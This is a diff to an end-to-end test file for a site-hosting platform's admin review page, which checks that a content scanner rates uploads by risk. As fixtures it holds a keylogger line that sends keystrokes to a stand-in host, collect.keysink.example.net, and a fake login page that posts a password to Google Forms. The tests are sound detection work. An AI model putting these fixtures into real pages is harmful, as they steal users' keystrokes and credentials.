@@ -31,7 +31,8 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
   // Signed in once the login page has gone (the token is kept before it navigates).
   await expect(page).not.toHaveURL(/\/login/);
   await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}`);
-  await expect(page.getByRole('link', { name, exact: true })).toBeVisible();
+  // The first page of a run can take a while on a busy machine.
+  await expect(page.getByRole('link', { name, exact: true })).toBeVisible({ timeout: 30_000 });
   const badge = page
     .getByRole('row')
     .filter({ has: page.getByRole('link', { name, exact: true }) })
@@ -47,11 +48,11 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
 
   await page.getByRole('link', { name, exact: true }).click();
   await expect(page).toHaveURL(new RegExp(`/admin/reviews/${site.id}`));
-  await expect(
-    page.getByText(
-      '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入',
-    ),
-  ).toBeVisible();
+  const finding =
+    '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入';
+  await expect(page.locator('.check-findings').getByText(finding)).toBeVisible();
+  // The level's reason names the same finding, above the table.
+  await expect(page.locator('.check-reason')).toContainText(`判为高风险，几乎可以肯定有恶意：${finding}`);
   // The excerpt is in the table; the location opens the file with that line marked.
   const line3 =
     'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });';
@@ -61,4 +62,78 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
   await expect(file).toContainText('// 自动保存');
   await expect(file.locator('.finding-source__line--current')).toHaveText(`3${line3}`);
   await expect(page.getByText('collect.keysink.example.net').first()).toBeVisible();
+});
+
+/**
+ * Levels that mean something, with the render included: a page that loads Bootstrap from jsDelivr,
+ * Google Fonts, a bilibili player and Baidu Tongji is information, not risk; a password sent to
+ * Google Forms is high. The review list and the detail say why in one sentence.
+ */
+test('libraries, fonts, players and analytics are information; a password to Google Forms is high, and the reviewer reads why', async ({
+  page,
+  request,
+}) => {
+  test.setTimeout(120_000);
+  const owner = await createAccount(request, 'lv');
+  const token = await apiToken(request, owner.username, owner.password);
+  const admin = await apiToken(request, ADMIN.username, ADMIN.password);
+  const name = `社团${Date.now().toString(36)}`;
+  const ordinary = await uploadSite(request, token, name, {
+    'index.html': [
+      '<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>摄影社</title>',
+      '<link href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css" rel="stylesheet">',
+      '<link href="https://fonts.googleapis.com/css2?family=Noto+Sans+SC&display=swap" rel="stylesheet">',
+      '<script>var _hmt = _hmt || []; (function () { var hm = document.createElement("script"); hm.src = "https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef"; var s = document.getElementsByTagName("script")[0]; s.parentNode.insertBefore(hm, s); })();</script>',
+      '</head><body><h1>摄影社</h1>',
+      '<iframe src="//player.bilibili.com/player.html?bvid=BV1xx411c7mD&page=1" allowfullscreen></iframe>',
+      '<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js"></script>',
+      '</body></html>',
+    ].join('\n'),
+  });
+  const hostile = await uploadSite(request, token, `${name}认证`, {
+    'index.html':
+      '<!doctype html><meta charset="utf-8"><title>统一身份认证</title><p>您的账号即将过期，请重新验证。</p>' +
+      '<form action="https://docs.google.com/forms/d/e/1FAIpQLSexample/formResponse" method="post">' +
+      '<input name="entry.1" placeholder="学号"><input type="password" name="entry.2" placeholder="密码"><button>验证</button></form>',
+  });
+  // Both rendered: their runtime findings are in the reports the list and the detail show.
+  for (const id of [ordinary.id, hostile.id]) {
+    await expect
+      .poll(
+        async () => {
+          const res = await request.get(`/api/admin/projects/${id}`, {
+            headers: { authorization: `Bearer ${admin}` },
+          });
+          return Boolean((await res.json()).data?.content_check?.runtime);
+        },
+        { timeout: 60_000 },
+      )
+      .toBe(true);
+  }
+
+  await signIn(page, ADMIN.username, ADMIN.password);
+  await expect(page).not.toHaveURL(/\/login/);
+  await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}&sort=risk`);
+  await expect(page.getByRole('link', { name, exact: true })).toBeVisible({ timeout: 30_000 });
+  const rowOf = (n: string) =>
+    page.getByRole('row').filter({ has: page.getByRole('link', { name: n, exact: true }) });
+  await expect(rowOf(name).locator('.content-check-badge')).toHaveAttribute('data-level', /^(low|info)$/);
+  await expect(rowOf(name).locator('.content-check-reason')).toContainText('只有供参考的信息');
+  await expect(rowOf(`${name}认证`).locator('.content-check-badge')).toHaveAttribute('data-level', 'high');
+  await expect(rowOf(`${name}认证`).locator('.content-check-reason')).toHaveText(
+    /^判为高风险，几乎可以肯定有恶意：表单把密码提交到表单服务 docs\.google\.com/,
+  );
+  // Sorted by risk: the high one first.
+  await expect(page.locator('.admin-project-cell__name').first()).toHaveText(`${name}认证`);
+
+  await rowOf(`${name}认证`)
+    .getByRole('link', { name: `${name}认证`, exact: true })
+    .click();
+  await expect(page.locator('.check-reason')).toContainText(
+    '判为高风险，几乎可以肯定有恶意：表单把密码提交到表单服务 docs.google.com',
+  );
+  // The ordinary site's detail lists its services as information.
+  await page.goto(`/admin/reviews/${ordinary.id}`);
+  await expect(page.locator('.check-reason')).toContainText('只有供参考的信息', { timeout: 30_000 });
+  await expect(page.getByText(/页面运行时使用公共 CDN jsDelivr（cdn\.jsdelivr\.net/)).toBeVisible();
 });
